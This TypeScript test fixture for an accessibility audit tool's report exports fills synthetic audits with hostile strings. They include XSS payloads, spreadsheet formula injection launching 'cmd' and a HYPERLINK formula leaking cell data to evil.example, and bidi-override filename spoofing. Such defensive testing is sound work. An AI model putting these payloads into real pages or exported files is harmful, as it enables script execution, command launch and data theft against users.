import type { Finding, Journey, PageAudit } from '../../../utils/audit/types.ts';
import { syntheticFinding, syntheticJourney, syntheticPage, SYNTHETIC_RULES } from './synthetic-audits.ts';

/**
 * Strings a hostile page can put into an audit (titles, alt text, labels, attributes, URLs).
 * The same payloads as tests/fixtures/hostile/report/*.html, for unit tests of every export.
 */
export const HOSTILE_STRINGS = [
  '<script>alert("title")</script>',
  '</script><script>alert("close")</script>',
  '"><img src=x onerror=alert("attr")>',
  "'><svg onload=alert('svg')>",
  '<iframe src="javascript:alert(1)"></iframe>',
  '`${alert("template")}`',
  '\u202Egnp.exe — 신청서\u202C',
  '=HYPERLINK("http://evil.example","x")',
  "+cmd|' /C calc'!A0",
  '[click](javascript:alert(1)) **bold** <b>b</b> | pipe | # heading',
  '{{name}} $t(rec.generic) __proto__',
  'https://evil.example/phish',
];

export const HUGE_STRING = `x${'A'.repeat(100_000)}"><img src=x onerror=alert("huge")>`;

/** A page audit in which every page-derived field holds a hostile payload. */
export function hostilePageAudit(): PageAudit {
  const base = syntheticPage(0, 0);
  const findings = HOSTILE_STRINGS.map((payload, index): Finding => {
    const finding = syntheticFinding(SYNTHETIC_RULES[index % SYNTHETIC_RULES.length]!, `hostile${index}`, 1);
    return {
      ...finding,
      // An imported file can hold anything here; reports show it as text, never as a link.
      helpUrl: payload,
      nodes: finding.nodes.map((node) => ({ ...node, target: [payload], snippet: `<img alt='${payload}'>`, message: payload })),
    };
  });
  findings.push({
    ...syntheticFinding(SYNTHETIC_RULES[0]!, 'huge', 1),
    nodes: [{ target: [HUGE_STRING], frame: 0, snippet: HUGE_STRING, message: HUGE_STRING, templateSignature: 'body' }],
  });
  return {
    ...base,
    url: 'https://evil.example/?q="><script>alert("url")</script>',
    title: HOSTILE_STRINGS[0]! + HOSTILE_STRINGS[6]!,
    findings,
    coverage: {
      ...base.coverage,
      framesSkipped: [{ url: 'javascript:alert("frame")', reason: HOSTILE_STRINGS[2]!, kind: 'error' }],
      errors: [{ frame: HOSTILE_STRINGS[1]!, message: HUGE_STRING }],
    },
  };
}

/** The characters that change the direction text is shown in: embeddings, overrides, isolates, marks. */
export const BIDI_CONTROLS = ['\u202A', '\u202B', '\u202C', '\u202D', '\u202E', '\u2066', '\u2067', '\u2068', '\u2069', '\u200E', '\u200F'];

/** What starts a formula in Excel, LibreOffice and Google Sheets. */
export const FORMULA_PREFIXES = ['=', '+', '-', '@'];

/** 10 kB of markup in one string (a data URL, a serialised form, an inline SVG). */
export const TEN_KB_STRING = `<b onmouseover=alert(1)>${'가'.repeat(10_000)}</b>`;

/**
 * A two-step journey whose every page-derived string is hostile: the hostile page audit, then a
 * page whose strings start with each formula prefix, carry every bidi control and run to 10 kB,
 * and a journey check whose places name hostile text.
 */
export function hostileJourney(): { journey: Journey; pages: PageAudit[] } {
  const { journey } = syntheticJourney(0);
  const formulas = [
    ...FORMULA_PREFIXES.map((prefix) => `${prefix}HYPERLINK("https://evil.example/?leak="&A1,"열기")`),
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
  ];
  const bidi = BIDI_CONTROLS.map((control) => `신청서${control}exe.gnp`);
  const strings = [...formulas, ...bidi, TEN_KB_STRING];
  const second: PageAudit = {
    ...syntheticPage(1, 0),
    id: 'hostile-2',
    url: `https://evil.example/${encodeURIComponent(FORMULA_PREFIXES.join(''))}`,
    title: `=cmd|' /C calc'!A0 ${BIDI_CONTROLS.join('')} ${TEN_KB_STRING}`,
    findings: strings.map((payload, index) => {
      const finding = syntheticFinding(SYNTHETIC_RULES[index % SYNTHETIC_RULES.length]!, `strings${index}`, 1);
      return {
        ...finding,
        evidence: [{ key: 'text', values: { text: payload } }],
        nodes: finding.nodes.map((node) => ({
          ...node,
          target: [payload],
          snippet: payload,
          message: payload,
          templateSignature: payload,
        })),
      };
    }),
  };
  const first = { ...hostilePageAudit(), id: 'hostile-1' };
  const pages = [first, second].map((page) => ({ ...page, journeyId: 'hostile-journey' }));
  const help: Finding = {
    ...syntheticFinding({ ...SYNTHETIC_RULES[0]!, ruleId: 'consistent-help', source: 'dotbogi', kwcag: '3.2.2' }, 'journey', 0),
    nodes: pages.map((page, step) => ({
      target: [page.url],
      frame: 0,
      snippet: strings[step]!,
      message: bidi[step]!,
      templateSignature: 'journey',
    })),
  };
  return {
    journey: {
      ...journey,
      id: 'hostile-journey',
      name: `${HOSTILE_STRINGS[0]!}${BIDI_CONTROLS.join('')}=1+1`,
      pages: pages.map((page) => page.id),
      findings: [help],
    },
    pages,
  };
}
